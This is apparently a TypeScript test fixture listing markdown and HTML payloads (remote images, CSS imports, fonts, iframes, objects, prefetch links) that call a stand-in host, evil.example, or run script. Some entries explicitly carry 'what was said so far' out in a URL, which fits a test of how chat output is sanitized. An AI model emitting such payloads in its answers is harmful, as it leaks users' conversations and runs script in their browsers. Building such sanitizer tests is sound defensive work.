// What would ask something of another host: pictures, media, styles, fonts, frames and all that loads ahead.
import { evil, type Payload, run } from "./payload.ts";

export const loads: readonly Payload[] = [
  ["a picture", `![pixel](${evil}/pixel.png)`],
  ["a picture with a title", `![pixel](${evil}/pixel.png "t")`],
  ["a picture that carries the conversation out", `![ ](${evil}/p?q=what+was+said+so+far)`],
  ["a picture without a scheme", "![pixel](//evil.example/p.png)"],
  ["a picture by reference", `![pixel][p] ![p] ![p][]\n\n[p]: ${evil}/pixel.png`],
  ["a picture by a reference written first", `[p]: ${evil}/pixel.png\n\n![pixel][p] ![P]`],
  ["a picture inside a link", `[![badge](${evil}/b.svg)](${evil}/ci)`],
  ["a picture inside a link by reference", `[![badge][b]][c]\n\n[b]: ${evil}/b.svg\n[c]: ${evil}/c`],
  ["a link inside the text of a picture", `![a [b](${evil}/1) c](${evil}/2)`],
  ["a picture inside the text of a picture", `![![x](${evil}/1)](${evil}/2)`],
  ["a picture in a heading, a list and a quote", `# ![h](${evil}/1)\n- ![l](${evil}/2)\n\n> ![q](${evil}/3)`],
  ["a picture in a table", `| ![a](${evil}/1) | b |\n|---|---|\n| ![c](${evil}/2) | d |`],
  ["a picture of data", "![d](data:image/png;base64,iVBORw0KGgo=)"],
  ["a drawing of data", `![d](data:image/svg+xml,<svg/onload=${run}>)`],
  [
    "a picture with a hostile text",
    `![" onerror="${run}](x) ![x" src="${evil}/y](z) ![<img src=x onerror=${run}>](q)`,
  ],
  [
    "a picture in HTML",
    `<img src="${evil}/p.png"> <image href="${evil}/p"> <input type=image src="${evil}/i">`,
  ],
  ["pictures to choose from", `<img srcset="${evil}/1 1x, ${evil}/2 2x" sizes=1px loading=eager>`],
  [
    "a picture element",
    `<picture><source srcset="${evil}/s"><img src="${evil}/p" lowsrc="${evil}/l"></picture>`,
  ],
  [
    "a background",
    `<body background="${evil}/1"><table background="${evil}/2"><td background="${evil}/3">x</table>`,
  ],
  ["a video", `<video src="${evil}/v" poster="${evil}/p" autoplay onloadstart=${run}></video>`],
  [
    "a video's source",
    `<video><source src="${evil}/v" onerror=${run}><track src="${evil}/t" default></video>`,
  ],
  ["audio", `<audio src="${evil}/a" autoplay controls></audio><bgsound src="${evil}/b">`],
  ["a style", `<style>@import "${evil}/x.css"; body { display: none }</style>`],
  ["a style that imports without quotes", "<style>@import//evil.example/x.css;</style>"],
  ["a style that tells letters", `<style>#box[value^=a] { background: url(${evil}/a) }</style>`],
  ["a font", `<style>@font-face { font-family: x; src: url(${evil}/f.woff2) } * { font-family: x }</style>`],
  ["a style attribute", `<p style="background:url(${evil}/y);position:fixed;inset:0">styled</p>`],
  ["a style attribute with escapes", `<p style="b\\61 ckground:\\75rl(${evil}/y)">styled</p>`],
  [
    "a style attribute with a set",
    `<p style="background-image:image-set('${evil}/y' 1x);list-style:url(${evil}/l)">s</p>`,
  ],
  ["an expression", `<p style="width:expression(${run})">s</p> <p style="behavior:url(${evil}/b.htc)">s</p>`],
  [
    "a binding",
    `<p style="-moz-binding:url(${evil}/b.xml#x)">s</p> <p style="x:\\65xpression(${run})">s</p>`,
  ],
  [
    "a cursor and a filter",
    `<p style="cursor:url(${evil}/c),auto;filter:url(${evil}/f#x);mask:url(${evil}/m)">s</p>`,
  ],
  ["a style sheet", `<link rel=stylesheet href="${evil}/z.css" onload=${run}>`],
  ["a processing instruction", `<?xml-stylesheet href="${evil}/z.css"?><?php echo 1 ?>`],
  [
    "what loads ahead",
    `<link rel=preload as=image href="${evil}/1"><link rel=modulepreload href="${evil}/2">`,
  ],
  ["what loads for later", `<link rel=prefetch href="${evil}/1"><link rel=prerender href="${evil}/2">`],
  [
    "names looked up ahead",
    "<link rel=dns-prefetch href=//what-was-said.evil.example><link rel=preconnect href=//evil.example>",
  ],
  [
    "names looked up by consent",
    '<meta http-equiv="x-dns-prefetch-control" content="on">[x](https://what-was-said.evil.example)',
  ],
  [
    "an icon and a manifest",
    `<link rel=icon href="${evil}/i"><link rel=manifest href="${evil}/m"><html manifest="${evil}/a">`,
  ],
  ["a frame", `<iframe src="${evil}"></iframe>`],
  ["a frame with a script", `<iframe src="javascript:parent.${run}"></iframe>`],
  ["a frame with a page of its own", `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`],
  [
    "a frame with a page in entities",
    `<iframe srcdoc="&lt;img src&equals;x onerror&equals;parent.${run}&gt;"></iframe>`,
  ],
  [
    "a frame that is let do everything",
    `<iframe sandbox="allow-scripts allow-top-navigation" src="${evil}" allow="camera"></iframe>`,
  ],
  [
    "an object",
    `<object data="${evil}/o"></object><object data="data:text/html,<script>parent.${run}</script>"></object>`,
  ],
  [
    "an object by its parameters",
    `<object><param name=src value="${evil}/p"><param name=movie value="${evil}/m"></object>`,
  ],
  ["an embed and an applet", `<embed src="${evil}/e"><applet code=X archive="${evil}/a.jar"></applet>`],
  ["a portal and a fenced frame", `<portal src="${evil}"></portal><fencedframe src="${evil}"></fencedframe>`],
  [
    "a source map and a frame's profile",
    `<head profile="${evil}/p"><q cite="${evil}/c">q</q><ins cite="${evil}/i">i</ins>`,
  ],
];
